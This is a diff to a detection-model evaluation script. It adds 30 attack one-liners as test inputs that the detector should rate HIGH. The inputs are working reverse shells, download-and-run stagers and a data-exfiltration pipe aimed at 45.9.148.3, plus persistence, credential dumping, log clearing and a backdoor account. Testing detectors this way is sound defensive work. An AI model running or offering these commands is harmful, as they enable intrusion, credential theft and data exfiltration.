@@ -14,7 +14,11 @@ each model given. Printed per model and set: the verdict levels of
   - netgraph's lines, benign and malicious by its labels, counted per event as well;
   - 30 command lines of a Linux server's own processes (daemons as systemd starts them,
     cron's `/bin/sh -c`, package and backup jobs), written for this script: no shared file
-    has Linux process telemetry.
+    has Linux process telemetry;
+  - 30 attack one-liners, also written for this script and in no corpus: droppers and
+    stagers on a public address, reverse shells, persistence, credential dumping, log
+    clearing, a reverse SSH tunnel — the text as an attacker types it, not as a corpus
+    documents it. Every one should reach HIGH.
 
 With `--evtx`, also the EVTX files of `../shared/data/evtx-attack-samples/` (needs the
 `python-evtx` package).
@@ -79,6 +83,36 @@ LINUX_BACKGROUND = r"""/usr/sbin/sshd -D
 /usr/bin/uname -a
 /usr/bin/ps aux
 /usr/bin/top -b -n 1""".splitlines()
+ATTACK_ONE_LINERS = r"""bash -i >& /dev/tcp/45.9.148.3/4444 0>&1
+nc -e /bin/sh 45.9.148.3 4444
+python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("45.9.148.3",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'
+powershell -w hidden -c "IEX(IWR http://45.9.148.3/a.ps1 -UseBasicParsing)"
+certutil -urlcache -split -f http://45.9.148.3/a.exe %TEMP%\a.exe && %TEMP%\a.exe
+mshta http://45.9.148.3/a.hta
+regsvr32 /s /n /u /i:http://45.9.148.3/a.sct scrobj.dll
+schtasks /create /sc minute /mo 5 /tn upd /tr "powershell -w hidden -c iex(iwr http://45.9.148.3/a)"
+reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\Users\Public\u.exe /f
+vssadmin delete shadows /all /quiet
+wevtutil cl Security
+procdump -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp
+rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full
+echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@y' >> /root/.ssh/authorized_keys
+(crontab -l; echo "*/5 * * * * curl -s http://45.9.148.3/x | sh") | crontab -
+chmod u+s /bin/bash
+nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44abc -k &
+Set-MpPreference -DisableRealtimeMonitoring $true
+net user backdoor P@ssw0rd1 /add && net localgroup administrators backdoor /add
+tar czf - /home | curl -X POST --data-binary @- http://45.9.148.3/up
+echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMy94IHwgc2g= | base64 -d | sh
+wget -q http://45.9.148.3/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k
+curl -s http://45.9.148.3/k -o /dev/shm/k && chmod 755 /dev/shm/k && /dev/shm/k
+bitsadmin /transfer j /download /priority high http://45.9.148.3/a.exe C:\Users\Public\a.exe
+(New-Object Net.WebClient).DownloadFile('http://45.9.148.3/a.exe',"$env:TEMP\a.exe"); Start-Process "$env:TEMP\a.exe"
+ssh -R 8080:localhost:22 u@45.9.148.3 -N -f
+socat TCP:45.9.148.3:4444 EXEC:/bin/bash
+mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.9.148.3 4444 > /tmp/f
+powershell -nop -w hidden -ep bypass -c "$c=New-Object Net.Sockets.TCPClient('45.9.148.3',443)"
+history -c && rm -f ~/.bash_history""".splitlines()
 LEVELS = ["LOW", "MEDIUM", "HIGH", "CRITICAL"]
 
 
@@ -207,6 +241,11 @@ def main():
         print("  host logs, background:   " + table([l for l, b in zip(lv, background) if b]))
         print("  host logs, other lines:  " + table([l for l, b in zip(lv, background) if not b]))
         print("  Linux server processes:  " + table(llv))
+        alv = score(args.warden, model, ATTACK_ONE_LINERS)
+        print("  attack one-liners:       " + table(alv))
+        for l, t in zip(alv, ATTACK_ONE_LINERS):
+            if l not in ("HIGH", "CRITICAL"):
+                print(f"    {l}: {t}")
         for malicious, name in ((False, "benign"), (True, "malicious")):
             rows = [(l, net[t][malicious]) for l, t in zip(nlv, net_texts) if net[t][malicious]]
             events = sum(n for _, n in rows)
